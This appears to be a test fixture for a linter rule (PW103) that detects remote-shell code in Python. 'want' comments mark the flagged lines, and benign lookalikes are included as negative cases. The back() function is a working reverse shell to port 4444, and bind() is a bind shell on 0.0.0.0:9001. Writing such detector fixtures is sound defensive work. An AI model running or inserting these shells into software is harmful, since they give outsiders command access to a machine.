import os
import pty
import socket
import subprocess


def back(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, 4444))
    os.dup2(s.fileno(), 0)  # want: PW103
    os.dup2(s.fileno(), 1)
    pty.spawn("/bin/bash")  # want: PW103


def bind():
    srv = socket.socket()
    srv.bind(("0.0.0.0", 9001))
    srv.listen(1)
    conn, _ = srv.accept()
    subprocess.Popen(["/bin/sh", "-i"], stdin=conn.fileno(), stdout=conn.fileno())  # want: PW103


def logging_redirect(logfile):
    os.dup2(logfile.fileno(), 1)
    r, w = socket.socketpair()
    subprocess.Popen(["cat"], stdin=r)
    pty.spawn(["python3", "-c", "print(1)"])


def docs():
    """A reverse shell does os.dup2(s.fileno(), 0) and pty.spawn("/bin/sh")."""
    # os.dup2(sock.fileno(), 1)
    return "pty.spawn('/bin/bash')"
